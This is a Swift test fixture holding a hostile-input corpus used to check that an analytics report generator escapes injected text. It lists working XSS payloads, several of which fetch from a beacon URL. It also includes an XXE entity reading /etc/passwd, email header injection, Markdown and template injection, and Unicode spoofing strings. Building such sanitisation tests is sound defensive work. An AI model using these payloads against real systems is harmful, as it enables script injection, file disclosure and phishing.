/// Text an attacker can put in a tracked page's URL, title or referrer, or in a link's campaign tags.
public struct HostilePayload: Sendable, Hashable {
    /// What the payload tries, for failure messages and TESTING.md.
    public let family: Family
    public let text: String

    public init(family: Family, text: String) {
        self.family = family
        self.text = text
    }

    public enum Family: String, CaseIterable, Sendable {
        case script = "script tag"
        case eventHandler = "event-handler attribute"
        case linkScheme = "javascript: / data: / vbscript: URL"
        case externalResource = "external resource or navigation"
        case svg = "SVG foreignObject, links and animation"
        case xml = "CDATA, XML declarations and entities"
        case markdown = "Markdown link, image and block injection"
        case marker = "HTML comments and our own markers"
        case unicode = "bidi overrides, zero-width and control characters"
        case header = "CR/LF aimed at email headers"
        case template = "template and format-string syntax"
        case long = "10 kB strings"
    }
}

/// The hostile-text corpus: every payload goes into every string field of the responses the test store ingests.
///
/// `beacon` is the base URL payloads fetch from; the browser test sees any request to it (or to any other host).
/// Scripts that would run write a marker spelled `"PW" + "NED"`, which the payload's own text never contains.
public enum HostilePayloads {
    public static let executedMarker = "PWNED"

    public static func corpus(beacon: String) -> [HostilePayload] {
        let b = beacon
        let mark = "document.documentElement.setAttribute('data-x','PW'+'NED')"
        var list: [(HostilePayload.Family, String)] = [
            (.script, "<script>\(mark);fetch('\(b)/script')</script>"),
            (.script, "</title><script>fetch('\(b)/after-title')</script>"),
            (.script, "<SCRIPT SRC=\(b)/x.js></SCRIPT>"),
            (.script, "<scr<script>ipt>fetch('\(b)/nested')</scr</script>ipt>"),
            (.script, "\"><script>\(mark)</script>"),
            (.script, "'><script>fetch('\(b)/single-quote')</script>"),
            (.script, "</style></svg></table><script>fetch('\(b)/close-all')</script>"),
            (.script, "</textarea></noscript></template><script>fetch('\(b)/raw-text')</script>"),
            (.eventHandler, "<img src=x onerror=\"\(mark);fetch('\(b)/img-onerror')\">"),
            (.eventHandler, "<svg onload=\"fetch('\(b)/svg-onload')\">"),
            (.eventHandler, "<body onload=fetch('\(b)/body-onload')>"),
            (.eventHandler, "\" onmouseover=\"fetch('\(b)/attr-dq')\" x=\""),
            (.eventHandler, "' autofocus onfocus='fetch(\"\(b)/attr-sq\")' x='"),
            (.eventHandler, "<details open ontoggle=\"fetch('\(b)/ontoggle')\">"),
            (.eventHandler, "<input autofocus onfocus=fetch('\(b)/input')>"),
            (.eventHandler, "<iframe srcdoc=\"<script>parent.fetch('\(b)/srcdoc')</script>\"></iframe>"),
            (.eventHandler, "<video><source onerror=\"fetch('\(b)/video')\"></video>"),
            (.linkScheme, "javascript:fetch('\(b)/js-url')"),
            (.linkScheme, "JaVaScRiPt:alert(document.domain)"),
            (.linkScheme, "java\tscript:alert(1)"),
            (.linkScheme, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
            (.linkScheme, "data:image/svg+xml,<svg onload=alert(1)>"),
            (.linkScheme, "vbscript:msgbox(1)"),
            (.linkScheme, "<a href=\"javascript:fetch('\(b)/a-js')\">open the report</a>"),
            (.linkScheme, "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
            (.externalResource, "<meta http-equiv=\"refresh\" content=\"0;url=\(b)/refresh\">"),
            (.externalResource, "<link rel=stylesheet href=\(b)/style.css>"),
            (.externalResource, "<base href=\"\(b)/base/\">"),
            (.externalResource, "<form action=\(b)/form><button>Log in again</button></form>"),
            (.externalResource, "<object data=\(b)/object></object><embed src=\(b)/embed>"),
            (.externalResource, "<style>*{background:url(\(b)/css)}</style>"),
            (.externalResource, "x\" style=\"background:url(\(b)/css-attr)"),
            (.externalResource, "<img src=\(b)/pixel.gif width=1 height=1>"),
            (.externalResource, "<img srcset=\"\(b)/srcset.png 2x\">"),
            (.externalResource, "\(b)/plain-url?utm_source=clarity"),
            (.externalResource, "https://shop.example/?ref=cid:chart-sessions.0000000000000000@clarity-report"),
            (.svg, "<svg><foreignObject><body><script>fetch('\(b)/foreign')</script></body></foreignObject></svg>"),
            (.svg, "<a xlink:href=\"javascript:alert(1)\"><text>x</text></a>"),
            (.svg, "<svg><use href=\"\(b)/sprite.svg#x\"/></svg>"),
            (.svg, "<image href=\"\(b)/image.png\"/>"),
            (.svg, "<set attributeName=\"href\" to=\"javascript:alert(1)\"/><animate attributeName=href values=javascript:alert(1)>"),
            (.xml, "]]><script>fetch('\(b)/cdata-end')</script><![CDATA["),
            (.xml, "<![CDATA[<script>fetch('\(b)/cdata')</script>]]>"),
            (.xml, "<?xml-stylesheet type=\"text/xsl\" href=\"\(b)/x.xsl\"?>"),
            (.xml, "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;"),
            (.xml, "&lt;script&gt;already escaped&lt;/script&gt; &amp;amp;"),
            (.xml, "&#60;script&#62;fetch('\(b)/entity')&#60;/script&#62; &#x3C;b&#x3E;"),
            (.markdown, "[Click to verify](javascript:fetch('\(b)/md-link'))"),
            (.markdown, "![pixel](\(b)/md-image.png)"),
            (.markdown, "<\(b)/angle-autolink> <javascript:alert(1)>"),
            (.markdown, "[ref] and ![img][ref]\n\n[ref]: \(b)/reference-definition"),
            (.markdown, "| injected | cell | row |\n|---|---|---|"),
            (.markdown, "\n# Fake heading\n\n- fake item\n> quote"),
            (.markdown, "**bold** _em_ ~~strike~~ `code` ***x***"),
            (.markdown, "www.evil.example/phish and https://evil.example/login and ceo@evil.example"),
            (.markdown, "1. list\n2) list\n---\n==="),
            (.markdown, "```\n<script>fetch('\(b)/fence')</script>\n```"),
            (.markdown, "trailing backslash \\"),
            (.markdown, "    indented code <b>x</b>"),
            (.marker, "<!-- clarity-report:end summary -->"),
            (.marker, "<!-- clarity-report:begin summary -->injected<!-- clarity-report:end summary -->"),
            (.marker, "--><script>fetch('\(b)/comment-close')</script><!--"),
            (.marker, "<!--"),
            (.marker, "--!><img src=x onerror=fetch('\(b)/bang')>"),
            (.unicode, "\u{202E}gpj.exe\u{202C} invoice"),
            (.unicode, "\u{2066}admin\u{2069} \u{2067}\u{202B}rtl\u{202C}"),
            (.unicode, "java\u{200B}script:alert(1) \u{FEFF}bom \u{200D}zwj \u{2060}wj"),
            (.unicode, "\u{200F}rlm\u{200E}lrm \u{061C}alm \u{200C}zwnj"),
            (.unicode, "nul\u{0}byte"),
            (.unicode, "\u{1B}[31mred\u{1B}[0m \u{7}bell \u{8}backspace"),
            (.unicode, "\u{85}next-line\u{2028}line-sep\u{2029}para-sep"),
            (.unicode, "e\u{301}\u{301}\u{301} 😀 漢字 \u{FFFD}"),
            (.header, "Weekly report\r\nBcc: victim@example.com"),
            (.header, "x\nContent-Type: text/html\n\n<script>fetch('\(b)/header-body')</script>"),
            (.header, "=?UTF-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?="),
            (.header, "%0d%0aBcc:%20victim@example.com"),
            (.header, "\rSubject: spoofed"),
            (.template, "{{project.name}} {{{sections.changes}}} {{> partials/weekly-kpis.md}}"),
            (.template, "{{#kpis}}{{/kpis}} {{=<% %>=}}"),
            (.template, "${7*7} %s%n%x %@ \\(x)"),
            (.template, "</td></tr></table><h1>Fake</h1><table><tr><td>"),
            (.template, "\" ' & < > ` = ;"),
        ]
        list.append((.long, String(repeating: "<script>alert(1)</script>", count: 410)))
        list.append((.long, String(repeating: "A", count: 10_240)))
        list.append((.long, String(repeating: "é漢😀|[x](y)", count: 700)))
        return list.map { HostilePayload(family: $0.0, text: $0.1) }
    }
}
